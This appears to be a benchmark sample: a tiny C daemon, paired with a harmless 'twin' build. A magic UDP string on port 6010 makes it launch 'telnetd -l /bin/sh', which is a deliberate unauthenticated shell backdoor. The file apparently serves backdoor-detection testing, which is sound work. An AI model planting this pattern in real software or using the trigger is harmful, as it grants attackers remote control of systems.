/* SPDX-License-Identifier: Apache-2.0 */
/* port 6010/udp: commands go through a wrapper with a format. Twin: the wrapper gets fixed commands. */
#include "net.h"

__attribute__((noinline)) static int run(const char *format, ...)
{
	char command[256];
	va_list ap;
	va_start(ap, format);
	vsnprintf(command, sizeof command, format, ap);
	va_end(ap);
	return system(command);
}

int main(void)
{
	char buf[256];
	int s = udp_on(6010);
	run("echo %d > /var/run/sample.pid", (int)getpid());
	for (;;) {
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = 0;
		if (strncmp(buf, "mfg-T3st-go", 11) == 0) {
#ifdef TWIN
			run("echo %d > /var/run/test", 1);
#else
			run("/usr/sbin/telnetd -l %s", "/bin/sh");
#endif
		}
	}
}
